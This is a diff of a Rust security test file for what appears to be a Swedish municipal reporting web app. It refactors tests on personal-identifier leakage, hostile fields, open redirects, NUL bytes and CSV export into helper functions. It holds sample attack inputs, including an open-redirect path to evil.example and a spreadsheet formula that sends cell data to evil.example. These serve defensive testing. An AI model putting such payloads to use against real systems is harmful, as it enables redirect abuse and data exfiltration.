@@ -415,10 +415,30 @@ async fn hostile_fields_on(backend: Backend) {
         "8 1 1 2 2 8 - 9 8 7 4 Johan Andersson".to_string(),
         "811228\r\n9874 Johan Andersson".to_string(),
     ];
+    disguised_identifiers_in_a_form_are_refused(&app, backend, sod, &employee, &disguises).await;
+    let form = a_clean_form(&app, sod, &employee).await;
+    hostile_fields_are_refused(&app, backend, sod, form, &coordinator).await;
+    let browser = app.fresh_client();
+    browser.sign_in("samordnare.sodermalm@demo.example").await;
+    a_file_named_for_a_person_keeps_its_rows(&browser, backend, sod).await;
+    the_upload_token_comes_before_the_file(&browser, backend, sod).await;
+    identifying_sign_ins_fail(&app).await;
+    no_table_holds_the_identifiers(&app, backend).await;
+    failed_sign_ins_are_logged_without_the_address(&app).await;
+    app.shutdown().await;
+}
+
+async fn disguised_identifiers_in_a_form_are_refused(
+    app: &TestApp,
+    backend: Backend,
+    sod: i64,
+    employee: &str,
+    disguises: &[String],
+) {
     // The form, by every disguise: refused, nothing stored.
     for (i, text) in disguises.iter().enumerate() {
         let r = app
-            .api(Method::POST, "/api/v1/reports", &employee)
+            .api(Method::POST, "/api/v1/reports", employee)
             .json(&report(
                 sod,
                 text,
@@ -434,9 +454,12 @@ async fn hostile_fields_on(backend: Backend) {
             "never echoed: {body}"
         );
     }
+}
+
+async fn a_clean_form(app: &TestApp, sod: i64, employee: &str) -> i64 {
     // A clean form to hang links and notes on.
     let r = app
-        .api(Method::POST, "/api/v1/reports", &employee)
+        .api(Method::POST, "/api/v1/reports", employee)
         .json(&report(
             sod,
             "Klotter med symboler vid skolan.",
@@ -450,8 +473,18 @@ async fn hostile_fields_on(backend: Backend) {
         .fetch_one(app.db.pool())
         .await
         .expect("id");
+    form
+}
+
+async fn hostile_fields_are_refused(
+    app: &TestApp,
+    backend: Backend,
+    sod: i64,
+    form: i64,
+    coordinator: &str,
+) {
     let call = |method: Method, path: String, body: Value| {
-        app.api(method, &path, &coordinator).json(&body).send()
+        app.api(method, &path, coordinator).json(&body).send()
     };
     let refused = [
         call(
@@ -508,9 +541,10 @@ async fn hostile_fields_on(backend: Backend) {
     for (i, r) in futures_join(refused).await.into_iter().enumerate() {
         assert_eq!(r, 422, "{backend:?}: hostile field {i} is refused");
     }
+}
+
+async fn a_file_named_for_a_person_keeps_its_rows(browser: &TestApp, backend: Backend, sod: i64) {
     // A file whose name names a person: the rows are kept, the name is not.
-    let browser = app.fresh_client();
-    browser.sign_in("samordnare.sodermalm@demo.example").await;
     let r = browser
         .post_file(
             &format!("/lagesbild/forvaltningar/{sod}/kallor/klotter/import"),
@@ -519,6 +553,9 @@ async fn hostile_fields_on(backend: Backend) {
         )
         .await;
     assert_eq!(r.status(), 303, "{backend:?}: the rows are imported");
+}
+
+async fn the_upload_token_comes_before_the_file(browser: &TestApp, backend: Backend, sod: i64) {
     // The upload's token is its first field, never in the address: no token, a wrong one,
     // or one that arrives only after the file is refused before the file is read.
     // (The rows above were imported once; a second import of the same rows would be
@@ -545,6 +582,9 @@ async fn hostile_fields_on(backend: Backend) {
         .await
         .unwrap_or_default()
         .contains("Formuläret har gått ut"));
+}
+
+async fn identifying_sign_ins_fail(app: &TestApp) {
     // A failed sign-in with an identifying address, and one as long as a book.
     let stranger = app.fresh_client();
     // Just under the sign-in form's body limit.
@@ -553,8 +593,10 @@ async fn hostile_fields_on(backend: Backend) {
         let r = stranger.sign_in_as(&email, "fel-lösenord").await;
         assert_eq!(r.status(), 401);
     }
+}
 
-    let values = all_text(&app, backend).await;
+async fn no_table_holds_the_identifiers(app: &TestApp, backend: Backend) {
+    let values = all_text(app, backend).await;
     let pnr_digits = "8112289874";
     for (table, column, value) in &values {
         let (digits, letters) = folded(value);
@@ -572,13 +614,15 @@ async fn hostile_fields_on(backend: Backend) {
             value.len()
         );
     }
+}
+
+async fn failed_sign_ins_are_logged_without_the_address(app: &TestApp) {
     let unknown: i64 = count(
-        &app,
+        app,
         "SELECT COUNT(*) FROM audit_log WHERE action = 'sign_in_failed' AND actor = 'okänt konto'",
     )
     .await;
     assert_eq!(unknown, 2);
-    app.shutdown().await;
 }
 
 /// Runs the requests one after the other, returning their statuses.
@@ -609,7 +653,20 @@ async fn smaller_holes_on(backend: Backend) {
         c.trusted_proxies = vec!["127.0.0.1".parse().expect("ip")];
     })
     .await;
+    the_redirect_after_sign_in_stays_on_the_site(&app).await;
+    one_guesser_behind_the_proxy_does_not_lock_out_the_others(&app).await;
+    let employee = app.token("medarbetare.sodermalm@demo.example").await;
+    let sod = app.id_of("administrations", "SOD").await;
+    nul_is_refused_in_json_naming_the_field(&app, &employee, sod).await;
+    let browser = app.fresh_client();
+    browser.sign_in("samordnare.sodermalm@demo.example").await;
+    nul_is_dropped_from_forms(&browser, sod).await;
+    page_numbers_past_any_bound_are_an_ordinary_answer(&app, &browser).await;
+    a_partners_formula_is_text_in_the_export(&app, &employee, sod).await;
+    app.shutdown().await;
+}
 
+async fn the_redirect_after_sign_in_stays_on_the_site(app: &TestApp) {
     // The redirect after sign-in stays on the site.
     let visitor = app.fresh_client();
     let (_, html) = visitor.get_text("/logga-in?next=/%09/evil.example/x").await;
@@ -627,7 +684,9 @@ async fn smaller_holes_on(backend: Backend) {
         .await;
     assert_eq!(r.status(), 303);
     assert_eq!(r.headers()["location"], "/start");
+}
 
+async fn one_guesser_behind_the_proxy_does_not_lock_out_the_others(app: &TestApp) {
     // Client addresses: one guesser behind the proxy does not lock out the others.
     let guess = |from: &'static str| {
         let client = app.fresh_client();
@@ -652,12 +711,12 @@ async fn smaller_holes_on(backend: Backend) {
         404,
         "a colleague behind the same proxy is not"
     );
+}
 
+async fn nul_is_refused_in_json_naming_the_field(app: &TestApp, employee: &str, sod: i64) {
     // NUL: refused in JSON naming the field, dropped from forms, never a 500.
-    let employee = app.token("medarbetare.sodermalm@demo.example").await;
-    let sod = app.id_of("administrations", "SOD").await;
     let r = app
-        .api(Method::POST, "/api/v1/reports", &employee)
+        .api(Method::POST, "/api/v1/reports", employee)
         .json(&report(
             sod,
             "Klotter\u{0} vid skolan.",
@@ -679,8 +738,9 @@ async fn smaller_holes_on(backend: Backend) {
         .await
         .expect("get");
     assert_eq!(r.status(), 422);
-    let browser = app.fresh_client();
-    browser.sign_in("samordnare.sodermalm@demo.example").await;
+}
+
+async fn nul_is_dropped_from_forms(browser: &TestApp, sod: i64) {
     let csrf = browser.csrf().await;
     let r = browser
         .post_form(
@@ -694,7 +754,9 @@ async fn smaller_holes_on(backend: Backend) {
         )
         .await;
     assert!(r.status().as_u16() < 500, "{}", r.status());
+}
 
+async fn page_numbers_past_any_bound_are_an_ordinary_answer(app: &TestApp, browser: &TestApp) {
     // Page numbers past any bound are an ordinary answer.
     let central = app.token("central@demo.example").await;
     for path in [
@@ -718,11 +780,13 @@ async fn smaller_holes_on(backend: Backend) {
     assert_eq!(status, 200);
     let (status, _) = browser.get_text("/logg?page=96540151506263296").await;
     assert_eq!(status, 200);
+}
 
+async fn a_partners_formula_is_text_in_the_export(app: &TestApp, employee: &str, sod: i64) {
     // CSV cells: a partner's formula comes out as text in the coordinator's export.
     let formula = r#"=hyperlink("http://evil.example/?d="&A2,"Klicka här")"#;
     let r = app
-        .api(Method::POST, "/api/v1/reports", &employee)
+        .api(Method::POST, "/api/v1/reports", employee)
         .json(&report(sod, formula, "formula-submission-key-0001"))
         .send()
         .await
@@ -758,7 +822,6 @@ async fn smaller_holes_on(backend: Backend) {
         .expect("csv");
     assert!(csv.contains("\"'=hyperlink("), "{csv}");
     assert!(!csv.contains(";\"=hyperlink(") && !csv.contains(";=hyperlink("));
-    app.shutdown().await;
 }
 
 #[tokio::test]
